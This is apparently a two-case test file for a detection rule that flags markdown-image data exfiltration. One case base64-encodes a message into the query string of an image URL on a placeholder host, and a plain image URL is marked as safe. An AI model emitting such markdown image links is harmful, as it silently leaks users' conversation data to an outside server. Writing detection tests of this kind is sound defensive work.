// ruleid: exfiltration-markdown-image
const t = `![x](https://a.invalid/p.png?d=${btoa(message)})`;
// ok: exfiltration-markdown-image
const u = `![x](https://a.invalid/p.png)`;
